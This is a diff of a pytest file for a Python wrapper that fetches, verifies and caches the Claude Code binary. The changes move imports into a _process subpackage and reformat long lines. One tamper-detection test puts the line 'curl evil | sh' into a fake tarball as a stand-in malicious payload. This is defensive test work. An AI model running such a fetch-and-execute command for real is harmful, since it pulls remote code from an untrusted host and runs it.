@@ -1,4 +1,4 @@
-"""Tests for claude_wrap._binary: platform detection, manifest, fetch/verify/cache, discovery."""
+"""Tests for claude_wrap._process.binary: platform detection, manifest, fetch/verify/cache, discovery."""
 
 from __future__ import annotations
 
@@ -20,8 +20,9 @@ from pathlib import Path
 
 import pytest
 
-from claude_wrap import _binary
-from claude_wrap._binary import (
+from claude_wrap._exceptions import ClaudeSDKError, CLINotFoundError
+from claude_wrap._process import binary as _binary
+from claude_wrap._process.binary import (
     PLATFORMS,
     BinaryFetchError,
     BinaryInfo,
@@ -40,8 +41,7 @@ from claude_wrap._binary import (
     load_manifest,
     pinned_version,
 )
-from claude_wrap._exceptions import ClaudeSDKError, CLINotFoundError
-from claude_wrap._fetch import _parse_sri, ensure_binary, fetch_binary
+from claude_wrap._process.fetch import _parse_sri, ensure_binary, fetch_binary
 
 REPO = Path(__file__).resolve().parent.parent
 SCRIPT = REPO / "scripts" / "fetch_binary.py"
@@ -110,7 +110,9 @@ def fake_release(tmp_path: Path) -> FakeRelease:
             "package/README.md": b"readme",
         },
     )
-    entry = PlatformEntry(integrity=_sri(raw), binary="claude", sha256=hashlib.sha256(binary).hexdigest(), size=len(binary))
+    entry = PlatformEntry(
+        integrity=_sri(raw), binary="claude", sha256=hashlib.sha256(binary).hexdigest(), size=len(binary)
+    )
     platforms = {p: (replace(entry, binary="claude.exe") if p.startswith("win32") else entry) for p in PLATFORMS}
     return FakeRelease(tarball, raw, binary, Manifest("@anthropic-ai/claude-code", FAKE_VERSION, platforms))
 
@@ -166,7 +168,10 @@ def test_detect_platform(sys_platform: str, machine: str, musl: bool, expected: 
     assert expected in PLATFORMS
 
 
-@pytest.mark.parametrize(("sys_platform", "machine"), [("linux", "i686"), ("linux", "armv7l"), ("freebsd14", "amd64"), ("cygwin", "x86_64"), ("linux", "")])
+@pytest.mark.parametrize(
+    ("sys_platform", "machine"),
+    [("linux", "i686"), ("linux", "armv7l"), ("freebsd14", "amd64"), ("cygwin", "x86_64"), ("linux", "")],
+)
 def test_detect_platform_unsupported(sys_platform: str, machine: str) -> None:
     with pytest.raises(UnsupportedPlatformError, match="CLAUDE_WRAP_CLI"):
         detect_platform(sys_platform, machine)
@@ -501,7 +506,9 @@ def test_fake_npm_failure_carries_stderr(
 
 
 @posix_only
-def test_fake_npm_serving_tampered_tarball(fake_release: FakeRelease, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_fake_npm_serving_tampered_tarball(
+    fake_release: FakeRelease, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     tampered = tmp_path / "tampered.tgz"
     _make_tarball(tampered, {"package/claude": _fake_script(FAKE_VERSION, "curl evil | sh\n")})
     bin_dir = tmp_path / "npm-bin"
@@ -538,7 +545,9 @@ class Layout:
 
 
 @pytest.fixture
-def layout(tmp_path: Path, fake_release: FakeRelease, use_manifest: UseManifest, monkeypatch: pytest.MonkeyPatch) -> Layout:
+def layout(
+    tmp_path: Path, fake_release: FakeRelease, use_manifest: UseManifest, monkeypatch: pytest.MonkeyPatch
+) -> Layout:
     """One candidate binary at every discovery step."""
     use_manifest(fake_release.manifest)
     name = "claude.exe" if sys.platform == "win32" else "claude"
@@ -658,7 +667,7 @@ def test_find_binary_is_cheap(layout: Layout, monkeypatch: pytest.MonkeyPatch) -
     layout.bundled.unlink()
     calls: list[object] = []
     monkeypatch.setattr(subprocess, "run", lambda *a, **k: calls.append(a))
-    from claude_wrap import _fetch
+    from claude_wrap._process import fetch as _fetch
 
     monkeypatch.setattr(_fetch, "_hash_file", lambda *a, **k: calls.append(a))
     for _ in range(20):
@@ -668,7 +677,7 @@ def test_find_binary_is_cheap(layout: Layout, monkeypatch: pytest.MonkeyPatch) -
 
 
 def test_import_is_light() -> None:
-    code = "import sys, claude_wrap._binary; print(sorted(m for m in ('tarfile', 'platformdirs') if m in sys.modules))"
+    code = "import sys, claude_wrap._process.binary; print(sorted(m for m in ('tarfile', 'platformdirs') if m in sys.modules))"
     out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
     assert out.strip() == "[]"
 
@@ -679,7 +688,9 @@ def test_import_is_light() -> None:
 def _run_script(*args: str, cache: Path) -> subprocess.CompletedProcess[str]:
     # PYTHONPATH: the script imports this checkout's claude_wrap, not another installed copy.
     env = {**USER_ENV, _binary.ENV_CACHE_DIR: str(cache), "PYTHONPATH": str(REPO)}
-    return subprocess.run([sys.executable, str(SCRIPT), *args], check=False, capture_output=True, text=True, env=env, timeout=300)
+    return subprocess.run(
+        [sys.executable, str(SCRIPT), *args], check=False, capture_output=True, text=True, env=env, timeout=300
+    )
 
 
 def test_script_rejects_bad_tarball(fake_release: FakeRelease, tmp_path: Path) -> None:
@@ -707,7 +718,9 @@ def real_cache(tmp_path_factory: pytest.TempPathFactory) -> Path:
     cache = tmp_path_factory.mktemp("real-cache")
     proc = _run_script(cache=cache)
     assert proc.returncode == 0, proc.stderr
-    assert proc.stdout.startswith(f"fetched and verified Claude Code {pinned_version()} ({current_platform()}) with npm pack")
+    assert proc.stdout.startswith(
+        f"fetched and verified Claude Code {pinned_version()} ({current_platform()}) with npm pack"
+    )
     return cache
 
 
